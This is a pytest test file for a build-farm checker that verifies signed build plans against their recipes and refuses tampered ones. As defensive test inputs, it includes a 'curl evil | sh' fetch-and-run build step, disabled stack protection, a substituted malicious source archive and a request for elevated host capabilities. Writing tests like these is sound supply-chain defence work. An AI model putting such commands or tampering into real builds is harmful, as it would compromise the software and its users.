"""The checker recomputes plans: a plan leased under an honest recipe does not pass for that recipe's own plan."""

from __future__ import annotations

from dataclasses import replace
from typing import TYPE_CHECKING, Any

import pytest
from securesystemslib.signer import CryptoSigner

from farm.checker.builds.plans import PlanMismatchError
from farm.core.names.declared import HostNeeds, Plugin
from farm.core.names.digest import Digest
from farm.core.names.version import Version
from farm.core.plan.plan import PlannedSource
from farm.signing.evidence import InvalidEvidenceError, ReleaseEvidence
from farm.store.errors import MissingBlobError
from farm.trust.attestation.provenance import ProvenanceError
from tests.checker.built import LATER_STEPS, TREE, Builder
from tests.refusing import refuses

if TYPE_CHECKING:
    from pathlib import Path


@pytest.fixture
def farm(tmp_path: Path) -> Builder:
    return Builder.at(tmp_path)


def test_what_an_honest_farm_builds_is_in_order_with_all_that_it_was_built_against(farm: Builder) -> None:
    zlib = farm.build(farm.recipe("zlib", more="links: {/usr/share/z: share/zlib/x}\n"))
    png = farm.build(farm.recipe("png", needs=("zlib",), more="requires: [zlib]\n"))
    viewer = farm.build(farm.recipe("viewer", needs=("png",)))
    assert [dependency.name.short for dependency in viewer.plan.dependencies] == ["png", "zlib"]
    assert farm.check(zlib) == ["zlib"]
    assert farm.check(zlib, png, viewer) == ["png", "viewer", "zlib"]
    # Packages that were never released are checked too.
    assert farm.check(viewer) == ["png", "viewer", "zlib"]


@pytest.mark.parametrize(
    "change",
    [
        {"environment": (("CFLAGS", "-fno-stack-protector"),)},
        {"sources": (PlannedSource("evil.tar.gz", Digest.of(b"evil")),)},
        {"links": (("usr/bin/ls", "share/zlib/x"),)},
        {"replaces": ("bash",)},
        {"requires": ("evil",)},
        {"license": "Zlib"},
        {"plugins": (Plugin("lib/*.so", "bash"),)},
        {"host": HostNeeds(kernel="5.6")},
        {"shadows": ("gcc",)},
        {"source_epoch": 1},
        {"version": Version("2.0")},
        {"revision": 2},
        {"protocol": 1},
    ],
    ids=lambda change: next(iter(change)),
)
def test_a_plan_that_does_not_follow_from_its_recipe_is_refused(farm: Builder, change: dict[str, Any]) -> None:
    """Control leases it, and an honest worker carries it out and signs that it did."""
    recipe = farm.recipe("zlib")
    evil = farm.build(recipe, replace(farm.pin(recipe), **change))
    with pytest.raises(PlanMismatchError, match=f"its {next(iter(change)).replace('_', '-')} should be"):
        farm.check(evil)


def test_other_steps_under_an_honest_recipe_are_refused(farm: Builder) -> None:
    recipe = farm.recipe("zlib")
    plan = farm.pin(recipe)
    evil = farm.build(recipe, replace(plan, steps=(*plan.steps, replace(plan.steps[0], script="curl evil | sh"))))
    with pytest.raises(PlanMismatchError, match="its steps should be"):
        farm.check(evil)


def test_a_dependency_that_was_built_otherwise_than_its_recipe_says_is_refused_although_it_is_never_released(
    farm: Builder,
) -> None:
    recipe = farm.recipe("zlib")
    farm.build(recipe, replace(farm.pin(recipe), environment=(("CFLAGS", "-DEVIL"),)))
    png = farm.build(farm.recipe("png", needs=("zlib",)))
    with pytest.raises(PlanMismatchError, match=r"the plan of dist\.example\.org/zlib does not follow"):
        farm.check(png)


def test_of_all_that_was_built_against_such_a_dependency_it_is_told_at_once(farm: Builder) -> None:
    """Otherwise the farm would leave one out, ask again, and learn of the next one only then."""
    recipe = farm.recipe("zlib")
    farm.build(recipe, replace(farm.pin(recipe), environment=(("CFLAGS", "-DEVIL"),)))
    png, tiff = (farm.build(farm.recipe(name, needs=("zlib",))) for name in ("png", "tiff"))
    with pytest.raises(PlanMismatchError) as refused:
        farm.check(png, tiff)
    assert refused.value.by_package.keys() == {"png", "tiff"}


def test_a_dependency_of_which_nobody_shows_the_build_is_refused(farm: Builder) -> None:
    farm.build(farm.recipe("zlib"))
    png = farm.build(farm.recipe("png", needs=("zlib",)))
    with refuses("unknown-dependency", match=r"png 1\.0-1 was built against dist\.example\.org/zlib 1\.0"):
        farm.check(png, without=("zlib",))


def test_another_build_of_a_dependency_does_not_stand_for_the_one_that_a_plan_names(farm: Builder) -> None:
    farm.build(farm.recipe("zlib"))
    png = farm.build(farm.recipe("png", needs=("zlib",)))
    farm.build(farm.recipe("zlib", "revision: 2\n"))
    with refuses("unknown-dependency", match=r"png 1\.0-1 was built against dist\.example\.org/zlib 1\.0"):
        farm.check(png)


def test_a_dependency_by_another_builder_is_refused(farm: Builder) -> None:
    ours, farm.worker = farm.worker, CryptoSigner.generate_ed25519()
    farm.build(farm.recipe("zlib"))
    farm.worker = ours
    png = farm.build(farm.recipe("png", needs=("zlib",)))
    with refuses("removed-builder", match=r"png 1\.0-1 was built against .*/zlib 1\.0-1, and no allowed"):
        farm.check(png)


def test_a_package_that_was_there_during_the_build_without_need_is_refused(farm: Builder) -> None:
    farm.build(farm.recipe("zlib"))
    farm.build(farm.recipe("evil"))
    recipe = farm.recipe("png", needs=("zlib",))
    honest = farm.pin(recipe)
    plan = replace(honest, dependencies=(*honest.dependencies, farm.dependency("evil", direct=False)))
    with pytest.raises(PlanMismatchError, match="neither the recipe nor its build-needs require evil"):
        farm.check(farm.build(recipe, plan))
    plan = replace(honest, dependencies=(*honest.dependencies, farm.dependency("evil", direct=True)))
    with pytest.raises(PlanMismatchError, match="evil, which it does not need"):
        farm.check(farm.build(recipe, plan))
    with pytest.raises(PlanMismatchError, match="no build of"):
        farm.check(farm.build(recipe, replace(honest, dependencies=())))


def test_a_toolchain_that_nobody_has_signed_is_refused(farm: Builder) -> None:
    recipe = farm.recipe("zlib")
    evil = farm.build(recipe, replace(farm.pin(recipe), toolchain=Digest.of(b"evil toolchain")))
    with pytest.raises(PlanMismatchError, match=r"in the toolchain sha256:.*, which nobody has signed"):
        farm.check(evil)


def test_a_toolchain_that_the_recipe_does_not_name_is_refused(farm: Builder) -> None:
    zlib = farm.build(farm.recipe("zlib"))
    policy = farm.policy()
    other = replace(policy, toolchains=(replace(policy.toolchains[0], name="full"),))
    assert other.toolchain(TREE) is not None
    with pytest.raises(PlanMismatchError, match="it is built in full, and the recipe names c"):
        farm.check(zlib, policy=other)


def test_what_was_built_with_earlier_steps_passes_for_as_long_as_they_are_signed(farm: Builder) -> None:
    zlib = farm.build(farm.recipe("zlib"))
    later = farm.policy(LATER_STEPS, farm.policy())
    assert farm.check(zlib, policy=later) == ["zlib"]
    assert farm.check(farm.build(farm.recipe("new", steps=LATER_STEPS)), policy=later) == ["new"]
    with pytest.raises(PlanMismatchError, match="its steps should be"):
        farm.check(zlib, policy=farm.policy(LATER_STEPS))


@pytest.mark.parametrize(
    "lie",
    [
        {"links": (("usr/bin/ls", "share/zlib/x"),)},
        {"requires": ()},
        {"provides": ("soname:libc.so.6",)},
        {"replaces": ("bash",)},
        {"host": HostNeeds(capabilities=("CAP_SYS_ADMIN",))},
        {"license": "MIT-0"},
        {"revision": 7},
    ],
    ids=lambda lie: next(iter(lie)),
)
def test_a_descriptor_that_says_more_or_less_than_plan_and_files_is_refused(farm: Builder, lie: dict[str, Any]) -> None:
    """An allowed worker signs it; nobody else could detect the lie."""
    evil = farm.build(farm.recipe("zlib", more="requires: [base]\n"), **lie)
    with pytest.raises(PlanMismatchError, match=f"its {next(iter(lie))} should be"):
        farm.check(evil)


def test_a_provenance_of_another_package_or_recipe_does_not_help(farm: Builder) -> None:
    zlib, png = farm.build(farm.recipe("zlib")), farm.build(farm.recipe("png"))
    swapped = replace(zlib, built=replace(zlib.built, provenance=png.built.provenance))
    with pytest.raises(ProvenanceError, match="is about other packages"):
        farm.check(swapped)
    with pytest.raises(ProvenanceError, match="was built from recipe"):
        farm.check(replace(zlib, built=replace(zlib.built, recipe=png.built.recipe)))


def test_a_recipe_that_is_not_there_is_refused(farm: Builder) -> None:
    zlib = farm.build(farm.recipe("zlib"))
    farm.blobs.delete(zlib.built.recipe)
    with pytest.raises(MissingBlobError):
        farm.check(zlib)


@pytest.mark.parametrize(
    "content", [b"", b"[]", b"{}", b'{"approvals":[],"dependencies":[],"format":9}', b'{"dependencies":1}']
)
def test_what_is_no_evidence_is_refused(content: bytes) -> None:
    with pytest.raises(InvalidEvidenceError):
        ReleaseEvidence.from_json(content)
